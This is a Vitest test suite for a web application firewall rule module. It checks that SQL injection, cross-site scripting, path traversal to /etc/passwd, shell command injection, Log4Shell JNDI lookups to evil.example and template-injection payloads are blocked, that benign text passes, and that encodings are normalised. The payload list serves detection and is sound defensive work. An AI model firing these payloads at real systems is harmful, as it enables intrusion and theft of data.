import { describe, expect, it } from 'vitest';
import { normalize, wafVerdict, type WafRequestParts } from '../../src/gateway/waf-rules.js';

/** Payloads that must be blocked, with the rule family expected to catch them. */
const ATTACKS: Array<[payload: string, category: string]> = [
  ["' OR 1=1--", 'SQLi'],
  ["admin' or 'a'='a", 'SQLi'],
  ['1 OR 1=1', 'SQLi'],
  ["' or ''='", 'SQLi'],
  ["x' or true--", 'SQLi'],
  ['1 UNION SELECT username, password FROM users', 'SQLi'],
  ['1 union all select null,null', 'SQLi'],
  ['1/**/UNION/**/SELECT/**/1', 'SQLi'],
  ['1 /*!50000union*/ select 1', 'SQLi'],
  ["1'; DROP TABLE users; --", 'SQLi'],
  ['1; delete from accounts', 'SQLi'],
  ["admin'--", 'SQLi'],
  ["admin' #", 'SQLi'],
  ['1 AND SLEEP(5)', 'SQLi'],
  ["1; WAITFOR DELAY '0:0:5'", 'SQLi'],
  ['1 and benchmark(5000000,md5(1))', 'SQLi'],
  ['1 union select table_name from information_schema.tables', 'SQLi'],
  ['<script>alert(1)</script>', 'CrossSiteScripting'],
  ['<ScRiPt src=//evil.example/x.js>', 'CrossSiteScripting'],
  ['javascript:alert(document.domain)', 'CrossSiteScripting'],
  ['<img src=x onerror=alert(1)>', 'CrossSiteScripting'],
  ['" onerror="alert(1)', 'CrossSiteScripting'],
  ['<svg/onload=alert(1)>', 'CrossSiteScripting'],
  ['<iframe src="//evil.example">', 'CrossSiteScripting'],
  ['<a href="jav&#x09;ascript:alert(1)">x</a>', 'CrossSiteScripting'],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', 'CrossSiteScripting'],
  ['../../../../etc/passwd', 'GenericLFI'],
  ['..\\..\\windows\\win.ini', 'GenericLFI'],
  ['..%2f..%2fetc%2fhosts', 'GenericLFI'],
  ['/etc/passwd', 'GenericLFI'],
  ['/proc/self/environ', 'GenericLFI'],
  ['%c0%ae%c0%ae%c0%afetc', 'GenericLFI'],
  ['; cat /tmp/x', 'UNIXShellCommands'],
  ['127.0.0.1 | id', 'UNIXShellCommands'],
  ['127.0.0.1 && whoami', 'UNIXShellCommands'],
  ['x\nls -la', 'UNIXShellCommands'],
  ['$(id)', 'UNIXShellCommands'],
  ['$(sleep 5)', 'UNIXShellCommands'],
  ['`uname -a`', 'UNIXShellCommands'],
  ['cat${IFS}x', 'UNIXShellCommands'],
  ['${jndi:ldap://evil.example/a}', 'Log4JRCE'],
  ['${${lower:j}ndi:ldap://evil.example/a}', 'Log4JRCE'],
  ['${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}', 'Log4JRCE'],
  ['${${env:NOPE:-j}ndi${upper::}ldap://evil.example/a}', 'Log4JRCE'],
  ['{{7*7}}', 'SSTI'],
  ['${7*7}', 'SSTI'],
  ['#{7*7}', 'SSTI'],
  ["{{ ''.__class__.__mro__ }}", 'SSTI'],
  ['<%= 7 * 7 %>', 'SSTI'],
];

/** Ordinary text that must pass in every placement. */
const BENIGN: string[] = [
  "O'Brien",
  "Dr. O'Brien's order",
  'select a size',
  'Please select a size and colour',
  'drop me a line',
  'Drop me a line; I will answer',
  '1 + 1 = 2',
  'rock and roll',
  'this or that',
  'union station',
  'cats & dogs',
  'Tom & Jerry',
  'sleep well',
  'how to sleep (8 hours)',
  'price: $5 (incl. tax)',
  '50% off',
  '100%',
  'a.b.c',
  'wait... then go',
  'v1.2/docs',
  'email: jane.doe+test@example.com',
  'Hello {{name}}, welcome!',
  'C# and F# are languages',
  'https://app.example.com/page?x=1&y=2',
  'O\'Neil said "hi" -- then left',
  'the identity card',
  'me, myself and I',
  'first line\nid card attached\ncat lovers welcome',
];

const JSON_BENIGN = [
  JSON.stringify({ name: "O'Brien", note: 'drop me a line', code: 'if (a < b) return;' }),
  JSON.stringify({ snippet: 'for (let i = 0; i < n; i++) { sum += a[i]; }', lang: 'js' }),
  JSON.stringify({ markdown: '# Title\n\n---\n\nSome *text* and `code`.', color: '#ff0000' }),
  JSON.stringify({ query: 'select a size', amount: 12.5, tags: ['a', 'b'], nested: { ok: true } }),
  JSON.stringify({ template: 'Hi {{user.name}}', math: '1 + 1 = 2', path: 'docs/intro.md' }),
];

const placements: Array<[name: string, make: (payload: string) => WafRequestParts]> = [
  ['query', (p) => ({ path: '/api/items', query: `q=${encodeURIComponent(p)}` })],
  ['double-encoded query', (p) => ({ path: '/api/items', query: `q=${encodeURIComponent(encodeURIComponent(p))}` })],
  ['path', (p) => ({ path: `/api/items/${encodeURIComponent(p)}` })],
  ['user-agent', (p) => ({ path: '/api/items', headers: { 'user-agent': p } })],
  ['cookie', (p) => ({ path: '/api/items', headers: { cookie: `session=abc; pref=${p}` } })],
  ['x-header', (p) => ({ path: '/api/items', headers: { 'x-custom': p } })],
  ['form body', (p) => ({ path: '/api/items', body: `comment=${encodeURIComponent(p)}` })],
  ['JSON body', (p) => ({ path: '/api/items', body: JSON.stringify({ comment: p }) })],
  [
    'JSON body with \\u escapes',
    (p) => ({
      path: '/api/items',
      body: `{"comment":"${[...p].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
    }),
  ],
];

describe('wafVerdict: attacks are blocked', () => {
  for (const [placement, make] of placements) {
    it.each(ATTACKS)(`${placement}: %s`, (payload, category) => {
      const verdict = wafVerdict(make(payload));
      expect(verdict.blocked).toBe(true);
      expect(verdict.rule?.startsWith(`${category}_`)).toBe(true);
    });
  }
});

describe('wafVerdict: ordinary text passes', () => {
  for (const [placement, make] of placements) {
    it.each(BENIGN)(`${placement}: %s`, (text) => {
      expect(wafVerdict(make(text))).toEqual({ blocked: false });
    });
  }
  it.each(JSON_BENIGN)('JSON body %s', (body) => {
    expect(wafVerdict({ path: '/api/items', body })).toEqual({ blocked: false });
  });
  it('plain requests and ordinary headers pass', () => {
    expect(
      wafVerdict({
        path: '/api/items',
        query: 'page=2&size=50&sort=-created&id=7',
        headers: {
          'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
          referer: 'https://app.example.com/items?page=1',
          cookie: 'session=abc123; id=42; theme=dark',
          'x-request-id': '6f1c2d3e-0000-4000-8000-000000000000',
          'x-forwarded-for': '203.0.113.7, 10.0.0.1',
        },
      }),
    ).toEqual({ blocked: false });
  });
});

describe('wafVerdict: what is inspected', () => {
  it('names the rule and placement like the AWS managed rules', () => {
    expect(wafVerdict({ path: '/x', query: 'id=1%20UNION%20SELECT%201' })).toEqual({
      blocked: true,
      rule: 'SQLi_QUERYARGUMENTS',
      signature: 'union-select',
    });
    expect(wafVerdict({ path: '/x', headers: { cookie: 'a=<script>' } }).rule).toBe('CrossSiteScripting_COOKIE');
    expect(wafVerdict({ path: '/x', headers: { 'user-agent': '${jndi:ldap://e/a}' } }).rule).toBe('Log4JRCE_HEADER');
    expect(wafVerdict({ path: '/a/..%2f..%2fetc/passwd' }).rule).toBe('GenericLFI_URIPATH');
    expect(wafVerdict({ path: '/x', body: '{"q":"1 OR 1=1"}' }).rule).toBe('SQLi_BODY');
  });

  it('does not inspect the credential header, nor headers outside UA/Referer/Cookie/X-*', () => {
    const key = "k' OR 1=1--";
    expect(wafVerdict({ path: '/x', headers: { 'x-api-key': key }, skipHeaders: new Set(['x-api-key']) }).blocked).toBe(false);
    expect(wafVerdict({ path: '/x', headers: { 'x-api-key': key } }).blocked).toBe(true);
    expect(wafVerdict({ path: '/x', headers: { accept: '<script>' } }).blocked).toBe(false);
  });

  it('inspects only the first 8 KB of a body, as AWS WAF does for API Gateway', () => {
    expect(wafVerdict({ path: '/x', body: `${'a'.repeat(9000)}<script>` }).blocked).toBe(false);
    expect(wafVerdict({ path: '/x', body: `${'a'.repeat(8000)}<script>` }).blocked).toBe(true);
  });

  it('normalizes stacked encodings', () => {
    expect(normalize('%252e%252e%252f', false)).toBe('../');
    expect(normalize('%u003Cscript', false)).toBe('<script');
    expect(normalize('\\u003cSCRIPT\\u003e', false)).toBe('<script>');
    expect(normalize('&#60;&#x73;cript', false)).toBe('<script');
    expect(normalize('a+b%2Bc', true)).toBe('a b+c');
    expect(normalize('<scr\0ipt>', false)).toBe('<script>');
    expect(normalize('%E2%82%AC %zz %', false)).toBe('€ %zz %');
  });
});
